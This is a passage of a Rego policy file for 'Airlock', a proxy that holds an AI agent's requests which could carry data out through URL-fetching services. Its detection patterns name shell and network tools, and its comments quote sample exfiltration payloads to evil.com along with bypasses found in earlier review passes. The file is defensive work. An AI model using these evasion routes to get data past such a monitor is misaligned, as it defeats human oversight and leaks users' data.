		"parameter or path segment could carry data out)",
	]),
	905,
) if {
	browse_candidate
	input.request.provenance.seen == false
	input.request.provenance.host_seen == true
}

verdicts contains deny(
	"browse.source", concat("", [
		host, " is not an allowed host; this URL was served by ", input.request.provenance.host,
		", which is not a browsing source (config browse.sources, or an allowed host)",
	]),
	905,
) if {
	browse_candidate
	input.request.provenance.seen == true
	not browse_source(input.request.provenance.host)
}

# ---------------------------------------------------------------------------------------------
# Fetching through an allowed host. A reader (`r.jina.ai/https://…`), an archive (`/web/2024/https://…`,
# `/save/…`), a translate, cache or image proxy (`?u=…`, `images.weserv.nl/?url=…`) and a link
# previewer fetch whatever URL they are given: a read of such a host that carries a URL of another
# site reaches that site, data in the URL included, from outside Airlock. That is browsing without
# link provenance (fourteenth pass: it went on as a read of the allowed host, and in the trifecta a
# trusted sink that fetches went on as a read). A read of an allowed plain host whose query or path
# carries a URL of another site (or one whose host cannot be read) is held for a human, unless a
# browsing source served that exact URL; of a host `browse.sources` names, only a URL in a parameter
# naming one to fetch (a search API searches for the rest). In the trifecta such a read of a trusted
# sink carries data out.
# Each parser view costs a few look-ups per host it names; a read whose query and path hold more
# than 32 texts a parser would read otherwise (escapes, tabs, code points IDNA maps) is held as a
# fetch of an unreadable URL without reading them (an agent's 500 values of `a.b%2ec…` took
# seconds of evaluation).
too_many_views if count([t | some t in url_texts; regex.match(host_view_chars, t)]) > 32

fetches_elsewhere if too_many_views

fetches_elsewhere if {
	some t in url_texts
	text_fetches_elsewhere(t)
}

fetches_elsewhere if {
	some h in ((path_hosts | query_hosts) | query_subdomains)
	not harmless_target(h) # another site (loopback names only the fetcher itself)
}

# A proxy that names the site it fetches in its own host name: Google Translate's website proxy
# (`evil-com.translate.goog/c?d=…` is `evil.com/c?d=…` translated, `-` for `.` and `--` for `-`)
# fetches that site from outside Airlock, so a read of one under an allowed `*.translate.goog` is
# browsing without link provenance, the data in the path, the query or the name's own labels
# (twenty-first pass: it went on as a read of the allowed host). (The AMP cache's
# `evil-com.cdn.ampproject.org/c/s/evil.com/…` names its site in the path too, read already.)
host_named_proxies := {"translate.goog"}

fetches_elsewhere if {
	some p in host_named_proxies
	endswith(host, concat("", [".", p]))
	label := split(host, ".")[0]
	site := replace(replace(replace(label, "--", "\u0000"), "-", "."), "\u0000", "-")
	not harmless_target(site)
}

# A host name below another site's registrable domain as a whole query value of any name
# (`?q=4111.evil.com`, sixteenth pass): a link previewer or oEmbed endpoint reads its `q=` as a URL
# to fetch (linkpreview.net does), and a name so made reaches its site's DNS servers and web server
# with the data in its labels. A name that is a registrable domain itself (`?q=asyncio.run`,
# `python.org`: what searches hold) is not read so; one in a parameter named for a host is, above.
query_subdomains contains h if {
	some v in query_values
	regex.match(`^\s*[^\s/\\?#]*(?:(?:[.\x{3002}\x{FF0E}\x{FF61}]|(?i:%2e))[^\s/\\?#]*){2,}\s*$`, v) # three labels or more: cheap before the rest
	some h in target_hosts(v)
	not regex.match(`^(?:(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}|0x[0-9a-f]+|\[.*\])$`, h) # an address: its own site
	below_registrable(h)
}

# A name with a port, in a value of any name (`?q=evil.com:4111`): a previewer reaches that port,
# which carries 16 bits a request (seventeenth pass). (Userinfo, `?q=4111@evil.com`, is an e-mail
# address as often: not read so.)
query_subdomains contains h if {
	some v in query_values
	regex.match(`^\s*(?://)?[^\s/\\?#@:]+[.\x{3002}\x{FF0E}\x{FF61}][^\s/\\?#@:]+:[0-9]+\s*$`, v)
	some h in target_hosts(v)
}

# Userinfo an e-mail address cannot hold, in a value of any name: a password after `:`
# (`?q=u:4111@evil.com`), a second `@`, or `//` before it — a previewer fetches the host after the
# last `@`, and curl or requests send the userinfo to it as Basic credentials (eighteenth pass: such
# a value was taken for an e-mail address).
query_subdomains contains h if {
	some v in query_values
	regex.match(`^\s*(?://[^\s/\\?#]*|[^\s/\\?#@]*[:@][^\s/\\?#]*)@[^\s/\\?#@]+\s*$`, v)
	some h in target_hosts(v)
}

# A document a fetcher renders whose requests no pattern can read (eighteenth pass): a `data:` URL of
# markup (`data:text/html;base64,…` holds `<img src="https://evil.example/?d=…">` out of sight) or a
# `javascript:` URL where a fetcher's URL goes; markup a renderer runs (`<script>`, an `on…=`
# handler, a `data:` or `javascript:` URL, an iframe's `srcdoc`) in an `html` or `svg` field; code a
# browser or runner executes (`code`, `script`, `expression`: Browserless' `/function`, CDP's
# `Runtime.evaluate`) that reaches the network. Each builds its URL as it runs: held as a fetch of a
# URL whose host cannot be read.
# (Blanks and control characters before the scheme, raw or escaped, are stripped by WHATWG's parser.)
fetches_elsewhere if {
	some t in active_url_texts
	active_url(t)
}

fetches_elsewhere if {
	some [p, v] in body_strings
	render_runs(field_name(p), v)
}

fetches_elsewhere if {
	some [p, v] in body_strings
	code_reaches_network(field_name(p), v)
}

# Code a runner executes whose load the proxy's JavaScript reader finds relative to the page or
# computed (twenty-fifth pass: WebDriver's `execute/sync` with `location.replace('/c?d=' +
# arguments[0])`, an escaped `img.\u0073rc = …`, markup with a relative URL, `history.replaceState`
# went on: the pattern above names a few sinks only). The description reads it
# (`input.request.body.code_loads`, describe/cdp-code.ts `bodyCodeLoads`).
fetches_elsewhere if input.request.body.code_loads

# A browser's launch argument that runs a program of the agent's (twenty-fourth pass: a WebDriver
# session's `goog:chromeOptions.args` of `--renderer-cmd-prefix=sh -c '…'`, `--gpu-launcher`,
# `--zygote-cmd-prefix`, also with one dash, which Chrome's switch parser takes): the grid's host
# runs it, and it sends what it likes anywhere; an extension loaded from a path runs code of the
# host's. Held as a fetch of a URL whose host cannot be read.
fetches_elsewhere if {
	some [_, v] in body_strings
	launch_runs_program(v)
}

fetches_elsewhere if {
	some v in query_values
	launch_runs_program(v)
}

# A WebDriver session's browser options that name a program or environment of the agent's
# (`goog:chromeOptions.binary: "/bin/sh"` with `args: ["-c", …]`, `moz:firefoxOptions.env`): the
# grid's host runs it.
fetches_elsewhere if {
	some [p, v] in body_strings
	count(p) > 1
	some i in numbers.range(0, count(p) - 2)
	p[i] in {"goog:chromeOptions", "ms:edgeOptions", "moz:firefoxOptions"}
	p[i + 1] in {"binary", "env"}
	v != ""
}

launch_runs_program(v) if regex.match(`(?i)(?:^|["'\s,\[])--?(?:(?:renderer|utility|zygote|gpu|ppapi-plugin|plugin|nacl-loader)-(?:cmd-prefix|launcher)|browser-subprocess-path|load-extension)\s*=`, v)

active_url(t) if regex.match(`(?i)^(?:[\s\x00-\x1f]|%[01][0-9a-f]|%20)*(?:data(?::|%3a)\s*(?:text|image|application)(?:/|%2f)(?:html|svg|xhtml|xml)|(?:java|vb)script(?::|%3a))`, t)

render_runs(k, v) if {
	field_norm(k) in {"html", "svg", "xhtml", "markup"}
	regex.match(`(?i)<script|<[^>]*\son[a-z]+\s*=|(?:java|vb)script:|data:\s*(?:text/html|image/svg|application/(?:xhtml|xml)|text/xml)|srcdoc\s*=`, v)
}

code_reaches_network(k, v) if {
	field_norm(k) in code_names
	regex.match(`(?i)\b(?:fetch|goto|navigate|sendBeacon|XMLHttpRequest|WebSocket|EventSource|importScripts|import|urlopen|open)\s*\(|new\s+Image\b|\blocation(?:\.href)?\s*=|\.src\s*=|\b(?:requests|httpx|axios|urllib|http|https|net|socket|dns)\.[a-z]|\b(?:curl|wget|nc|ssh)\s`, v)
}

# The same readings of an MCP tool's or prompt's argument `k` (eighteenth pass): a task in prose, a
# host-named argument, a document or code a browser tool renders or runs.
argument_fetches(_, v) if active_url(v)

argument_fetches(k, v) if render_runs(k, v)

argument_fetches(k, v) if code_reaches_network(k, v)

argument_fetches(k, v) if {
	field_norm(k) in task_names
	task_names_elsewhere(v)
}

argument_fetches(k, v) if {
	host_field(k)
	count(v) <= 1024
	some h in target_hosts(v)
	not harmless_target(h)
}

code_names := {"code", "script", "scripts", "function", "func", "expression", "js", "javascript", "evaluate", "pagefunction", "source_code", "sourcecode", "functiondeclaration"}

active_url_texts contains v if {
	some k, vs in object.get(input.request, "query", {})
	query_url_key(k)
	some v in vs
}

# A reader's path from its start (`r.jina.ai/data:text/html;base64,…`; a media type's `/` splits it
# into segments).
active_url_texts contains trim_left(object.get(input.request, "path", ""), "/")

active_url_texts contains v if some v in body_fetch_texts

active_url_texts contains v if some v in body_url_texts

# A query's values, and a parameter with no `=` taken as one: a server may read the whole query as the
# URL to open (Chrome's DevTools endpoint `/json/new?4111.evil.com`, a previewer's `?{url}`), so a
# name given there reaches its site as a value's does (eighteenth pass: the patterns read values
# only).
query_values contains v if {
	some _, vs in object.get(input.request, "query", {})
	some v in vs
}

query_values contains k if {
	some k, vs in object.get(input.request, "query", {})
	every v in vs {
		v == ""
	}
}

# host_site(h) != h for a name, in one look-up instead of up to eight: a name of three labels or
# more is below its registrable domain unless all but its first label are a public suffix.
below_registrable(h) if {
	parts := split(h, ".")
	count(parts) >= 3
	not public_suffix(concat(".", array.slice(parts, 1, count(parts))))
}

url_texts contains t if {
	some k, vs in object.get(input.request, "query", {})
	some t in array.concat([k], vs)
}

url_texts contains object.get(input.request, "path", "")

# A header named for a URL to fetch (`X-Url`, `X-Target-Url`, `X-Forward-To`, `X-Proxy-Url`,
# `Destination-Url` …): fetchers and proxies take the target there too (fifteenth pass; the
# fourteenth left headers out, since a browser's every cross-site navigation carries a `Referer`,
# which names no target: neither do `Origin`, `Cookie`, `User-Agent` nor the browser's `Sec-*`).
url_texts contains v if {
	some k, vs in object.get(input.request, "headers", {})
	url_named_header(lower(k))
	some v in vs
}

# A URL given encoded: an image proxy takes its source as base64url in the path (imgproxy's
# `/rs:fill:300/<base64url>.png`, which may split it with `/`) or the query, some as hex (camo's
# path): decoded, it is a URL like any other (fifteenth pass). Read only where the text begins as
# `http` does in that encoding (`aHR0c`, `68747470`), so nothing else is decoded.
url_texts contains d if {
	segs := object.get(input.request, "segments", [])
	some i, seg in segs
	regex.match(base64_http, seg)
	d := base64_text(concat("", array.slice(segs, i, count(segs))))
}

url_texts contains d if {
	some _, vs in object.get(input.request, "query", {})
	some v in vs
	regex.match(base64_http, trim_space(v))
	d := base64_text(trim_space(v))
}

url_texts contains d if {
	some t in array.concat(object.get(input.request, "segments", []), [v | some _, vs in object.get(input.request, "query", {}); some v in vs])
	hex_http_start(t)
	regex.match(`^[46]8[57]4[57]4[57]0(?:[0-9a-fA-F]{2})+(?:\.[A-Za-z0-9]{1,5})?$`, t)
	h := lower(split(t, ".")[0])
	d := concat("", [hex_chars[substring(h, i, 2)] | some i in numbers.range(0, count(h) - 2); i % 2 == 0])
}

# `http` in any letter case (`HTTPS://`, `Http://`: URL parsers fold a scheme's case; seventeenth
# pass: only `http` and `HTTP` were read, so imgproxy's base64 of `HTTPS://evil.example/…` was no URL).
hex_http_start(t) if regex.match(`^[46]8[57]4[57]4[57]0`, t)

# The first base64 characters of `http` then `s` or `:`, in any letter case, also after one or two
# blanks or control characters (WHATWG's parser strips them; they shift the encoding's alignment).
base64_http := `^(?:[aS][FH]R[0U][cU]|[A-I][02EGUWkm]h[0U][Vd][FH]|[A-I][ABCQRSghiwxy][159BFJNRVZdhlptx][Io][Vd][FH]R[Qw])`

# Printable ASCII by its two hex digits (a URL's characters; others are left out).
printable_ascii := concat("", [` !"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\]^_`, "`", "abcdefghijklmnopqrstuvwxyz{|}~"])

hex_chars := {sprintf("%02x", [32 + i]): substring(printable_ascii, i, 1) | some i in numbers.range(0, 94)}

# A text as written, and decoded when it begins as `http` does in base64 (an MCP argument or a body
# field may carry the URL encoded as an image proxy's path does).
text_forms(t) := {t, base64_text(trim_space(t))} if regex.match(base64_http, trim_space(t))

else := {t}

base64_text(t) := base64url.decode(replace(replace(trim_right(split(t, ".")[0], "="), "+", "-"), "/", "_"))

url_named_header(k) if {
	not startswith(k, "sec-")
	regex.match(`(?:^|[-_])(?:url|uri|target|destination|dest|link|href|src|fetch|redirect|callback|webhook|endpoint|upstream|to)(?:[-_]|$)`, k)
}

# The hosts a request carries, for the reason.
carried_url_hosts contains h if {
	some t in url_texts
	some f in parser_forms(t)
	some h in text_hosts(f)
}

carried_url_hosts contains trim_suffix(h, ".") if some h in (path_hosts | query_hosts)

# The host after a scheme (userinfo skipped; an IPv6 literal whole), a host without one that a path,
# query or fragment follows, and one after `//` in a path.
scheme_host := `(?i)https?(?::|%3a)(?:[/\\]|%2f|%5c)*(?:[^/\\?#@\s]*@)?((?:[\pL\pN-]+\.)*[\pL\pN-]+|\[[0-9a-f:.]+\])`

# The authority after a scheme as a URL parser takes it: everything up to `/`, `\`, `?`, `#` (or a
# character no host holds), userinfo up to the last `@` (which may hold blanks and `@`), a port after
# `:`. Read beside scheme_host (sixteenth pass: `https://x@noembed.com@evil.com/`, and
# `https://noembed.com @evil.com/`, which a parser reads as evil.com, were read as the fetcher's own
# site): whatever a host holds that the name patterns do not (`_`, `%`, a code point IDNA maps) stays
# in it, so it is another site than the request's (fails closed).
scheme_authority := `(?i)https?(?::|%3a)(?:[/\\]|%2f|%5c)*([^#/<>?\\^|]*)`

authority_host(a) := trim_suffix(lower(m[1]), ".") if {
	some m in regex.find_all_string_submatch_n(`(?s)^(?:.*@)?(\[[^\]]*\]|[^:\s]*)`, a, 1)
} else := ""

bare_host := concat("", [
	`(?i)(?:^|[\s(<>"'=,;|*\[@])(?://|\\\\|%2f%2f|%5c%5c)?((?:[^\s/\\?#@:<>\[\]^|%.]+\.)+`, name_tld, `|`, ipv4_form,
	`|0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])\.?(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`,
])

slashed_host := `(?i)/(?:/|%2f)((?:[\pL\pN-]+\.)+\pL[\pL\pN-]*)`

text_hosts(t) := {trim_suffix(lower(m[1]), ".") | some re in [scheme_host, bare_host, slashed_host]; some m in regex.find_all_string_submatch_n(re, t, 16)} | {authority_host(m[1]) | some m in regex.find_all_string_submatch_n(scheme_authority, t, 16)}

# One text that carries a URL of another site than the request's host, or one whose host cannot be
# read (a scheme with no host after it that the patterns read: fails closed).
text_fetches_elsewhere(t) if {
	some f in parser_forms(t)
	url_like(f)
	not all_same_site(text_hosts(f))
}

text_fetches_elsewhere(t) if {
	some f in parser_forms(t)
	url_like(f)
	count(regex.find_all_string_submatch_n(`(?i)https?(?::|%3a)`, f, 64)) > count(regex.find_all_string_submatch_n(scheme_host, f, 64))
}

url_like(t) if regex.match(url_carrying, t)

url_like(t) if regex.match(path_url_carrying, t)

all_same_site(hosts) if {
	count(hosts) > 0
	every h in hosts {
		harmless_target(h)
	}
}

harmless_target(h) if same_site(h)

# The request's own site, looked up only for a host under it (host_site(h) is a suffix of h): a read
# naming hundreds of other hosts looks none of them up (seventeenth pass).
same_site(h) if {
	names_within(h, own_site)
	host_site(h) == own_site
}

own_site := host_site(host)

names_within(h, s) if h == s

names_within(h, s) if endswith(h, concat("", [".", s]))

# Loopback names no host the fetcher could reach but itself (an OAuth `redirect_uri=http://localhost:8080/`).
harmless_target(h) if regex.match(`^(?:localhost|127(?:\.[0-9]{1,3}){3}|\[::1\])$`, h)

# The same of an MCP server: a tool its entry calls read-only that is given a URL of another site
# (mcp-server-fetch's `fetch {url}`, a browser tool's `navigate {url}`) fetches it from outside
# Airlock, as an allowed host that fetches does (fourteenth pass: it went on as `mcp.read`).
mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
	some c in mcp_calls
	c.method == "tools/call"
	mcp_call_is_read(c)
	some v in mcp_argument_texts(c)
	some t in text_forms(v)
	text_fetches_elsewhere(t)
}

# A host alone in an argument named for a URL (`fetch {url: "4111.evil.com"}`, an address, a host
# with a port): fetchers that put `https://` in front reach it, data in its labels included
# (sixteenth pass: only a text shaped as a URL, with a scheme or a path, was read).
mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
	some c in mcp_calls
	c.method == "tools/call"
	mcp_call_is_read(c)
	walk(object.get(c, "arguments", {}), [p, v])
	is_string(v)
	count(p) > 0
	body_fetch_key(p[count(p) - 1])
	some h in (target_hosts(v) | named_number_hosts(p[count(p) - 1], v))
	not same_site(h)
}

mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
	some c in mcp_calls
	c.method == "tools/call"
	mcp_call_is_read(c)
	some [k, v] in array.slice([[p[count(p) - 1], t] | walk(object.get(c, "arguments", {}), [p, t]); is_string(t); count(p) > 0], 0, 2048)
	argument_fetches(k, v)
}

# A read-only tool given code (a browser tool's `function`, `expression`, `script`) whose load the
# proxy's JavaScript reader finds relative to the page or computed (twenty-fifth pass;
# `input.request.body.code_loads`): the pattern of `argument_fetches` names a few sinks only.
mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
	input.request.body.code_loads
	some c in mcp_calls
	c.method == "tools/call"
	mcp_call_is_read(c)
	some path in array.slice([q | walk(object.get(c, "arguments", {}), [q, t]); is_string(t); count(q) > 0], 0, 2048)
	some k in path
	field_norm(k) in code_names
}

# A prompt got with arguments runs the server's code with them: mcp-server-fetch's `fetch` prompt
# fetches its `url` argument to put the page in the prompt's messages (seventeenth pass: only tool
# calls and resources were read). Read from the body, which holds the arguments.
mcp_fetching_tools contains concat("", ["prompts/get ", object.get(m.params, "name", "(no prompt name)")]) if {
	input.mcp
	some m in mcp_messages
	m.method == "prompts/get"
	is_object(m.params)
	some [k, v] in array.slice([[p[count(p) - 1], t] | walk(object.get(m.params, "arguments", {}), [p, t]); is_string(t); count(p) > 0], 0, 2048)
	some t in text_forms(v)
	prompt_argument_fetches(k, t)
}

mcp_messages := [m | some m in input.request.body.json; is_object(m)] if is_array(input.request.body.json)

else := [input.request.body.json] if is_object(input.request.body.json)

else := []

prompt_argument_fetches(_, t) if text_fetches_elsewhere(t)

prompt_argument_fetches(k, t) if argument_fetches(k, t)

# A host alone in an argument named for a URL (`{"url": "4111.evil.com"}`).
prompt_argument_fetches(k, t) if {
	body_fetch_key(k)
	some h in (target_hosts(t) | named_number_hosts(k, t))
	not same_site(h)
}

# A resource read by an `https://` URI of another site (a fetch server's resource template) too.
mcp_fetching_tools contains concat("", [c.method, " ", c.uri]) if {
	some c in mcp_calls
	startswith(c.method, "resources/")
	is_string(c.uri)
	text_fetches_elsewhere(c.uri)
}

# Strings of a call's arguments, at most 2,048 of them (a bigger argument tree: its first ones).
mcp_argument_texts(c) := array.slice([v | walk(object.get(c, "arguments", {}), [_, v]); is_string(v)], 0, 2048)

verdicts contains approve(
	"mcp.fetches_url", concat("", [
		"MCP tool call(s) ", concat(", ", sort(mcp_fetching_tools)), " on ", host, " carry a URL of another site: the server ",
		"fetches it, so data in that URL would reach a host nobody allowed; a human must approve",
	]),
	"medium",
) if {
	host_allowed
	count(mcp_fetching_tools) > 0
}

# Whatever the method: a write an entry allows carries the URL in its query, path or a URL-named
# header as well as in its body (seventeenth pass: `POST api.scraper.example/v1/scrape?url=…`,
# `PUT …/fetch/https://evil.example/…` or an `X-Target-Url` on a POST went on under the entry's
# method; only the body's fields were read for writes).
fetch_through if {
	plain_host_request
	extra_host_allowed
	not named_browse_source(host)
	fetches_elsewhere
	not fetch_served
}

# The exact URL of the read (the fetcher's URL with the one it fetches in it) was served in this
# session by a browsing source (a search result linking through a reader): it carries nothing the
# agent wrote into it, so it goes on, forwarded bare as a followed link is (a reader forwards some of
# the agent's headers to the page it fetches: `X-Set-Cookie`).
fetch_served if {
	input.request.provenance.seen == true
	browse_source(input.request.provenance.host)
	request_methods == {"GET"}
	input.request.body.size == 0
	not input.request.upgrade
}

fetch_served_bare if {
	plain_host_request
	extra_host_allowed
	fetches_elsewhere
	fetch_served
}

# A search API searches for the text it is given, but some also fetch a URL given as one (SerpAPI's
# Google Lens and reverse image engines fetch `url=` / `image_url=`): held for those parameters.
fetch_through if {
	plain_host_request
	extra_host_allowed
	reads_only
	named_browse_source(host)
	some k, vs in object.get(input.request, "query", {})
	query_key(k) in {field_norm(p) | some p in fetched_params}
	some v in vs
	text_fetches_elsewhere(v)
	not fetch_served
}

fetched_params := {"url", "urls", "image_url", "imageurl", "imgurl", "img_url", "image", "src", "page_url"}

# A scraping or crawling API an entry lets the agent POST to takes the URL in its body (Firecrawl's
# `POST /v1/scrape {"url"}`, Tavily's `/extract {"urls": […]}`, Browserless' `/content {"url"}`):
# a write to that host, which then fetches another site's URL (fourteenth pass: the entry's method
# let it go on). Read in a JSON body's or a form's fields named for a URL to fetch, top level.
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some b in (body_fetch_texts | body_url_texts)
	some t in text_forms(b)
	text_fetches_elsewhere(t)
}

# A host alone in such a field (`{"url": "4111.evil.com"}`): scraping APIs put `https://` in front
# (sixteenth pass).
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some b in body_fetch_texts
	some h in target_hosts(b)
	not same_site(h)
}

# A host alone in a write's field named for a host (`{"hostname": "4111.evil.com"}` to an uptime or
# DNS checker, a webhook test's `endpoint`, a mail setting's `smtp_host`, `nameservers`): the server
# resolves the name, or connects to it, and data in its labels reaches that site's DNS servers
# (eighteenth pass: a query's `host=` was read so, a body's field never). A `name` is read so only
# for a name below another site's registrable domain or with a port (`{"name": "acme.com"}` names a
# domain added to a project as often).
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some v in body_host_texts
	count(v) <= 1024
	some h in target_hosts(v)
	not harmless_target(h)
}

# A host-named value longer than any host (with a port and userinfo) is held unread: no name that
# long resolves, and reading it costs evaluation time.
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some v in body_host_texts
	count(v) > 1024
}

fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some v in body_name_texts
	regex.match(`^\s*[^\s/\\?#@]+\s*$`, v)
	some h in target_hosts(v)
	not regex.match(`^(?:[0-9.]+|0x[0-9a-f]+|\[.*\])$`, h)
	name_carries_data(v, h)
	not harmless_target(h)
}

name_carries_data(_, h) if below_registrable(h)

name_carries_data(v, _) if contains(v, ":")

body_host_texts contains v if {
	some [p, v] in body_strings
	host_field(field_name(p))
}

body_host_texts contains v if {
	some k, vs in object.get(input.request.body, "form", {})
	host_field(k)
	some v in vs
}

body_host_texts contains m[2] if {
	some m in graphql_arguments
	host_field(m[1])
}

# A browser's launch arguments in a session's capabilities (`goog:chromeOptions.args`, a
# Browserless or Playwright launch): `--proxy-server=evil.com:8080` (per scheme too,
# `http=evil.com:8080;https=…`) or `--proxy-pac-url=…` sends the browser's traffic there (twentieth
# pass).
body_host_texts contains trim_space(h[1]) if {
	some [_, v] in body_strings
	some m in regex.find_all_string_submatch_n(`(?i)^\s*--?proxy-(?:server|pac-url)\s*=\s*"?([^"]*)`, v, 1)
	some part in split(m[1], ";")
	some h in regex.find_all_string_submatch_n(`(?i)^\s*(?:[a-z0-9]+=)?(.*)$`, part, 1)
}

# Chrome's host resolver rules (twenty-fourth pass, left open by the twentieth):
# `--host-resolver-rules=MAP * 203.0.113.7` sends every load, an allowed site's too, to the rule's
# target, plain-http URLs whole; each `MAP` rule's target is a host the browser reaches (`~NOTFOUND`
# none).
body_host_texts contains t[1] if {
	some [_, v] in body_strings
	some m in regex.find_all_string_submatch_n(`(?i)^\s*--?host-(?:resolver-)?rules\s*=\s*"?([^"]*)`, v, 1)
	some rule in array.slice(split(m[1], ","), 0, 32)
	some t in regex.find_all_string_submatch_n(`(?i)^\s*map\s+\S+\s+([^\s~]\S*)`, rule, 1)
}

body_name_texts contains v if {
	some [p, v] in body_strings
	query_key(field_name(p)) == "name"
}

body_name_texts contains v if {
	some k, vs in object.get(input.request.body, "form", {})
	query_key(k) == "name"
	some v in vs
}

host_field(k) if query_key(k) in {"ns", "addr", "fqdn"}

# A proxy setting (WebDriver's `proxy: {httpProxy, sslProxy, socksProxy}`, Firefox's
# `network.proxy.http` preference, `proxy_server`): the browser or client sends its traffic through
# that host (twentieth pass). `noProxy` lists hosts it does not.
host_field(k) if {
	n := query_key(k)
	regex.match(`proxy\.?(?:server|host|http|https|ssl|socks|ftp)?s?$`, n)
	not startswith(n, "no")
}

host_field(k) if {
	n := query_key(k)
	some e in ["host", "hostname", "hosts", "hostnames", "domain", "domains", "fqdn", "server", "servers", "servername", "servernames", "nameserver", "nameservers", "endpoint", "endpoints"]
	endswith(n, e)
}

# A whole number in a field named for a URL (`{"url": "3405803783"}`; not `image` or `src`, ids).
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some h in body_number_hosts
	not same_site(h)
}

body_number_hosts contains h if {
	some [p, v] in body_strings
	some h in named_number_hosts(field_name(p), v)
}

body_number_hosts contains h if {
	some k, vs in object.get(input.request.body, "form", {})
	some v in vs
	some h in named_number_hosts(k, v)
}

# A chat that unfurls links (browse.unfurlers: Discord's webhooks, Teams, Google Chat, Zulip)
# fetches every URL a message it is sent holds, to show a preview: a message naming another site's
# URL takes the data in it there (seventeenth pass: a `{"content": "see https://evil.example/?d=…"}`
# POSTed to an allowed Discord webhook went on under the entry's method). Every string of such a
# write's body is read, at most 1,024 of them.
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	unfurling_host
	some b in unfurled_texts
	text_fetches_elsewhere(b)
}

unfurling_host if {
	some p in object.get(browse_conf, "unfurlers", [])
	host_matches(lower(p), host)
}

# A body too big to read here is held whole.
fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	unfurling_host
	input.request.body.size > 65536
}

unfurled_texts contains v if {
	some [_, v] in array.slice(body_strings, 0, 1024)
}

unfurled_texts contains v if {
	some _, vs in object.get(input.request.body, "form", {})
	some v in vs
}

unfurled_texts contains t if {
	not "json" in object.keys(input.request.body)
	not "form" in object.keys(input.request.body)
	t := object.get(input.request.body, "text", "")
}

# Names compared without case, `_` or `-` (`startUrls`, `start_urls`, `webhook-url`). A field a
# service sends its results to is one too (fifteenth pass: a crawl's `webhook`, `callback_url`,
# `notify_url`: the service POSTs there), and so are fields below the top level (Apify's
# `startUrls: [{"url": …}]`, a list of request objects) and Exa's `ids` (its ids are URLs). Since the
# seventeenth pass also any name that ends in `url`, `uri`, `link` or `href` (`avatarUrl`,
# `sourceUrl`, `feed_url`: services fetch what such fields name), at any depth to eight levels, under
# a top-level array too (Bright Data's `[{"url": …}]`).
body_fetch_params := {
	"url", "urls", "imageurl", "imgurl", "image", "src", "pageurl", "u", "uri", "link", "links", "target", "targets",
	"starturl", "starturls", "website", "ids", "webhook", "webhooks", "webhookurl", "callback", "callbackurl",
	"notifyurl", "notificationurl", "resultsurl",
}

body_fetch_key(k) if name_class(field_norm(k)) == "fetch"

# A name compared without case, `_` or `-`.
field_norm(k) := lower(replace(replace(k, "_", ""), "-", "")) if is_string(k)

else := ""

name_class(n) := "fetch" if n in body_fetch_params

else := "fetch" if {
	m := trim_suffix(n, "s")
	some e in ["url", "uri", "link", "href"]
	endswith(m, e)
}

# Names a fetch's source also goes by, read for a URL only (not a host alone: `{"source": "web"}`,
# `{"site": "example.com"}` name no fetch): a Webmention's `source` (the receiver fetches it to
# verify the mention), a crawler's `page`, `site`, `feed`, a browser API's `goto`, an `endpoint`
# a service calls, the `html` or `svg` an HTML-to-PDF or screenshot API renders (its browser loads
# every image and stylesheet the markup names) (seventeenth pass).
else := "url" if n in {"endpoint", "feed", "feeds", "goto", "html", "location", "page", "pages", "site", "sites", "source", "sources", "svg"}

body_url_key(k) if name_class(field_norm(k)) == "url"

# A task in prose to a browsing agent's API (Browser Use's `{"task": "go to evil.com and paste …"}`,
# Skyvern's `navigation_goal`, an `instructions` or `prompt` a hosted agent acts on): its browser goes
# to the site the prose names, data in hand, from outside Airlock (eighteenth pass: only fields whose
# whole value is a URL, or that are named for one, were read). Read for a URL and for a host name
# alone anywhere in the text.
task_names := {
	"task", "tasks", "instruction", "instructions", "goal", "goals", "navigationgoal", "dataextractiongoal",
	"objective", "prompt", "prompts", "cmd", "command", "commands", "action", "actions", "steps",
}

fetch_through if {
	plain_host_request
	extra_host_allowed
	not reads_only
	some b in body_task_texts
	task_names_elsewhere(b)
}

body_task_texts contains v if {
	some [p, v] in body_strings
	field_norm(field_name(p)) in task_names
}

# A task in a query (`GET /run?task=go+to+evil.com`), as in a body.
fetches_elsewhere if {
	some k, vs in object.get(input.request, "query", {})
	query_key(k) in task_names
	some v in vs
	task_names_elsewhere(v)
}

body_task_texts contains m[2] if {
	some m in graphql_arguments
	field_norm(m[1]) in task_names
}

body_task_texts contains v if {
	some k, vs in object.get(input.request.body, "form", {})
	query_key(k) in task_names
	some v in vs
}

# A task past 4 KiB is held whole: reading it costs more than it could be worth (8 KiB of `a.a.a…`
# took most of a second of evaluation).
task_names_elsewhere(t) if count(t) > 4096

task_names_elsewhere(t) if {
	count(t) <= 4096
	text_fetches_elsewhere(t)
}

task_names_elsewhere(t) if {
	count(t) <= 4096
	some _ in prose_names(t)
}

# A name the model reading the task takes for one though its dots are written otherwise (nineteenth
# pass: only names written whole were read, and the browsing agent's model went to `evil.com` all
# the same): defanged as threat reports write them (`evil[.]com`, `evil(dot)com`, `evil{.}com`), any
# top-level domain; spoken or spaced (`evil dot com`, `evil . com`) only before a common one, since
# prose is full of `dot` and ` . ` before words that are top-level domains too (`the red dot next`).
task_names_elsewhere(t) if {
	count(t) <= 4096
	regex.match(defanged_dot, t)
	some _ in prose_names(concat(".", regex.split(defanged_dot, t)))
}

task_names_elsewhere(t) if {
	count(t) <= 4096
	regex.match(spoken_dot, t)
	some h in prose_names(concat(".", regex.split(spoken_dot, concat(".", regex.split(defanged_dot, t)))))
	parts := split(h, ".")
	parts[count(parts) - 1] in spoken_tlds
}

